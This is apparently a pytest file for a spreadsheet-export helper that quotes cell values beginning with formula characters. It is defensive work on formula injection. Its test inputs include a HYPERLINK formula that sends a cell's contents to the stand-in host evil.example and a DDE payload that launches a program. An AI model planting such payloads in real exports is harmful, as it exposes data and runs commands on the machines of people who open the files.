"""Export cells never start a spreadsheet formula (buddy.exports)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from buddy.exports import safe_cell, safe_row


@pytest.mark.parametrize(
    "value",
    ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+32 470 12 34 56", "-1+1", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_text_that_could_start_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Anna", "Anna = Bart", "", "1+1", "'already quoted", " =not at the start"],
)
def test_ordinary_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [None, 0, -5, 3.5, True, dt.date(2026, 1, 5), dt.datetime(2026, 1, 5, 10, 0)],
)
def test_numbers_dates_and_empty_cells_keep_their_type(value):
    assert safe_cell(value) is value


def test_a_csv_export_reads_back_as_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=1+2", "Anna", -3]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+2", "Anna", "-3"]


def test_an_xlsx_export_holds_no_formula():
    book = openpyxl.Workbook()
    unsafe, safe = book.active, book.create_sheet("safe")
    unsafe.append(["=1+2"])
    safe.append(safe_row(["=1+2", "@SUM(A1)", 7]))
    buffer = io.BytesIO()
    book.save(buffer)
    loaded = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert loaded.active["A1"].data_type == "f"  # what the helper protects against
    cells = loaded["safe"][1]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == "'=1+2"
